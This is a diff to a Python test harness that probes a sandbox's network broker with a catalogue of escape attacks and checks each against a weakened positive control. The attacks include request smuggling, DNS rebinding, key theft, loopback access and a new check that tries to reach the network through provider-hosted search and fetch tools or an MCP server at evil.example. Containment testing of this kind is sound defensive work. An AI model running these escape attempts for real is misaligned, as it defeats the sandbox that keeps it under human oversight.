@@ -20,7 +20,7 @@ from contextlib import contextmanager
 from dataclasses import dataclass, field
 from enum import StrEnum
 from pathlib import Path
-from typing import Self
+from typing import Protocol, Self
 
 from orchestrator.broker.certificates import Authority
 from orchestrator.broker.lease import ProcessBroker, ProcessLease
@@ -50,6 +50,17 @@ _PARSED = (
     "[::1]",
     "localhost",
 )
+_HOSTED: tuple[dict[str, object], ...] = (
+    {"tools": [{"type": "web_search_20250305", "name": "web_search"}]},
+    {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]},
+    {"tools": [{"type": "a_tool_of_tomorrow", "name": "x"}]},
+    {"mcp_servers": [{"type": "url", "url": "https://evil.example/mcp", "name": "x"}]},
+    {
+        "messages": [
+            {"role": "user", "content": [{"type": "image", "source": {"type": "url", "url": "https://evil.example"}}]}
+        ]
+    },
+)
 _CONTROL_PLANE = ("/", "/lease", "/close", "/runs", "/approve", "/containers/json", "/_ping", "/anthropic/v1/models")
 
 
@@ -59,34 +70,58 @@ class Verdict(StrEnum):
     INCONCLUSIVE = "inconclusive"
 
 
-@dataclass(slots=True)
-class Target:
-    """What an attacker inside has: the socket, the token, the certificate. ``canary`` is what must not be reached."""
+class Carrier(Protocol):
+    """How an attacker's bytes get to the broker: by a socket of this host, or from inside a sandbox."""
 
-    connect: Callable[[], socket.socket]
-    token: str
-    authority: Path
-    canary: Canary
+    def exchange(self, data: bytes, /) -> bytes:
+        """Send exact bytes; what comes back up to the end of sending."""
+        ...
+
+    def through(self, tunnel: bytes, request: bytes, /) -> bytes:
+        """Send a request with TLS through a tunnel to the granted host; ``b""`` when there is no tunnel."""
+        ...
+
+
+@dataclass(frozen=True, slots=True)
+class Near:
+    """Implements :class:`Carrier` with the lease's socket, from this host."""
+
+    lease: ProcessLease
 
     def exchange(self, data: bytes) -> bytes:
-        """Send exact bytes; what comes back up to the end of sending."""
-        with self.connect() as stream:
+        with _connect(self.lease) as stream:
             stream.sendall(data)
             with contextlib.suppress(OSError):
                 stream.shutdown(socket.SHUT_WR)
             return _all(stream)
 
-    def through(self, request: bytes) -> bytes:
-        """Send a request through a tunnel to the granted host; ``b""`` when there is no tunnel."""
-        with self.connect() as stream:
-            stream.sendall(self.tunnel(f"{HOST}:{self.canary.tls_port}"))
+    def through(self, tunnel: bytes, request: bytes) -> bytes:
+        with _connect(self.lease) as stream:
+            stream.sendall(tunnel)
             if not _head(stream).startswith(b"HTTP/1.1 200"):
                 return b""
-            context = ssl.create_default_context(cafile=self.authority)
+            context = ssl.create_default_context(cafile=Path(self.lease.mount) / CA_FILE)
             with contextlib.suppress(OSError), context.wrap_socket(stream, server_hostname=HOST) as inner:
                 inner.sendall(request)
                 return inner.recv(65536)
         return b""
+
+
+@dataclass(slots=True)
+class Target:
+    """What an attacker inside has: a way to the broker and the token. ``canary`` is what must not be reached."""
+
+    carrier: Carrier
+    token: str
+    canary: Canary
+
+    def exchange(self, data: bytes) -> bytes:
+        """As :meth:`Carrier.exchange`."""
+        return self.carrier.exchange(data)
+
+    def through(self, request: bytes) -> bytes:
+        """As :meth:`Carrier.through`, to the granted host."""
+        return self.carrier.through(self.tunnel(f"{HOST}:{self.canary.tls_port}"), request)
 
     def tunnel(self, authority: str) -> bytes:
         """A ``CONNECT`` with the lease's token."""
@@ -130,7 +165,7 @@ def uploads(target: Target) -> bool:
 
 
 def passes_bytes(target: Target) -> bool:
-    """37: more bytes to a granted path than are granted."""
+    """71: more bytes to a granted path than are granted."""
     filler = "x" * (_OPEN_KIB + 1) * 1024
     host = f"Host: {HOST}:{target.canary.tls_port}\r\n"
     target.through(f"GET /open?{filler} HTTP/1.1\r\n{host}\r\n".encode())
@@ -151,7 +186,7 @@ def finds_control_plane(target: Target) -> bool:
 
 
 def steals_key(target: Target) -> bool:
-    """40: an upstream that sends the key back."""
+    """72: an upstream that sends the key back."""
     return CANARY_KEY.encode() in target.exchange(model_request(target.token))
 
 
@@ -163,55 +198,116 @@ def redirects_models(target: Target) -> bool:
 
 
 def smuggles(target: Target) -> bool:
-    """36: one request that two readers cut in different places."""
+    """70: one request that two readers cut in different places."""
     body = json.dumps({"model": "m", "max_tokens": 5, "messages": []}).encode()
     chunked = b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)
     both = f"Content-Length: {len(chunked)}\r\nTransfer-Encoding: chunked\r\n"
     return target.exchange(model_request(target.token, more=both, body=chunked)).startswith(b"HTTP/1.1 200")
 
 
+def asks_the_provider(target: Target) -> bool:
+    """73: a search, a fetch or a server of its own that the model's provider would run, past the sandbox."""
+    for more in _HOSTED:
+        body = json.dumps({"model": "m", "max_tokens": 5, "messages": [], **more}).encode()
+        if target.exchange(model_request(target.token, body=body)).startswith(b"HTTP/1.1 200"):
+            return True
+    return False
+
+
 @dataclass(frozen=True, slots=True)
 class Attack:
-    """``attempt`` says whether it got what it must not get; ``rebound`` allows the canary's own address."""
+    """``attempt`` says whether it got what it must not get; ``weakens`` is what is off in the positive control.
+
+    ``kept`` is off in both: the canary has a private address, which is no granted one.
+    """
 
     id: int
     name: str
     control: str
     attempt: Callable[[Target], bool]
     weakens: frozenset[Protection]
-    rebound: bool = True
+    kept: frozenset[Protection] = _REBOUND
 
 
-def _attack(number: int, control: str, attempt: Callable[[Target], bool], *off: Protection) -> Attack:
-    return Attack(number, attempt.__name__.replace("_", "-"), control, attempt, frozenset(off))
+def _attack(number: int, name: str, control: str, attempt: Callable[[Target], bool], *off: Protection) -> Attack:
+    return Attack(number, name, control, attempt, frozenset(off))
 
 
 CATALOGUE = (
-    Attack(34, "rebinds", "addresses judged after resolving, and pinned", rebinds, _REBOUND, rebound=False),
-    _attack(35, "strict names", confuses_hosts, Protection.HOSTS, Protection.GRANTS),
-    _attack(36, "Host equals the tunnel's name", fronts, Protection.SERVER_NAME),
-    _attack(36, "one framing a message", smuggles, Protection.FRAMING),
-    _attack(37, "methods and paths judged inside TLS", uploads, Protection.GRANTS),
-    _attack(37, "bytes counted for each host", passes_bytes, Protection.BUDGET),
-    _attack(38, "no addresses, no loopback", reaches_loopback, Protection.HOSTS, Protection.GRANTS),
-    _attack(39, "no control plane, nothing without the token", finds_control_plane, Protection.TOKEN),
-    _attack(40, "keys added outside, masked on the way in", steals_key, Protection.MASKING),
-    _attack(41, "the broker chooses the upstream", redirects_models, Protection.HOSTS),
+    Attack(
+        34,
+        "a granted name whose address is the machine itself",
+        "addresses judged after resolving, and pinned",
+        rebinds,
+        _REBOUND,
+        frozenset(),
+    ),
+    _attack(
+        35,
+        "names that a careless reader takes for a granted one",
+        "strict names",
+        confuses_hosts,
+        Protection.HOSTS,
+        Protection.GRANTS,
+    ),
+    _attack(
+        36, "a granted name outside, another within", "Host equals the tunnel's name", fronts, Protection.SERVER_NAME
+    ),
+    _attack(
+        37,
+        "methods and paths that are not granted",
+        "methods and paths judged inside TLS",
+        uploads,
+        Protection.GRANTS,
+    ),
+    _attack(
+        38,
+        "the machine's own ports",
+        "no addresses, no loopback",
+        reaches_loopback,
+        Protection.HOSTS,
+        Protection.GRANTS,
+    ),
+    _attack(
+        39,
+        "a control plane on the broker's socket",
+        "there is none, and nothing is answered without the token",
+        finds_control_plane,
+        Protection.TOKEN,
+    ),
+    _attack(
+        41, "a base URL of the attacker's choice", "the broker chooses the upstream", redirects_models, Protection.HOSTS
+    ),
+    _attack(70, "one request that two readers cut differently", "one framing a message", smuggles, Protection.FRAMING),
+    _attack(71, "more bytes than are granted", "bytes counted for each host", passes_bytes, Protection.BUDGET),
+    _attack(
+        72,
+        "an upstream that sends the key back",
+        "keys added outside, masked on the way in",
+        steals_key,
+        Protection.MASKING,
+    ),
+    _attack(
+        73,
+        "tools that the model's provider runs",
+        "refused unless the endpoint lists them",
+        asks_the_provider,
+        Protection.PROVIDER,
+    ),
 )
 
 
 def judge(attack: Attack) -> Verdict:
     """Attempt it on a real lease, then on a weakened one."""
-    kept = _REBOUND if attack.rebound else frozenset[Protection]()
-    with scene(kept) as target:
+    with scene(attack.kept) as (target, _):
         if attack.attempt(target):
             return Verdict.ESCAPED
-    with scene(kept | attack.weakens) as target:
+    with scene(attack.kept | attack.weakens) as (target, _):
         return Verdict.HELD if attack.attempt(target) else Verdict.INCONCLUSIVE
 
 
 @contextmanager
-def scene(weakened: frozenset[Protection]) -> Iterator[Target]:
+def scene(weakened: frozenset[Protection]) -> Iterator[tuple[Target, ProcessLease]]:
     """A lease with one granted path of one granted host and one model, both answered by a canary."""
     with tempfile.TemporaryDirectory() as place:
         folder = Path(place)
@@ -227,7 +323,7 @@ def scene(weakened: frozenset[Protection]) -> Iterator[Target]:
             weakened=weakened,
         )
         with Canary(tls) as canary, broker.open(_grant(folder, canary), _Unlimited(), lambda _: None) as lease:
-            yield Target(lambda: _connect(lease), lease.token, Path(lease.mount) / CA_FILE, canary)
+            yield Target(Near(lease), lease.token, canary), lease
 
 
 def _grant(folder: Path, canary: Canary) -> BrokerGrant:
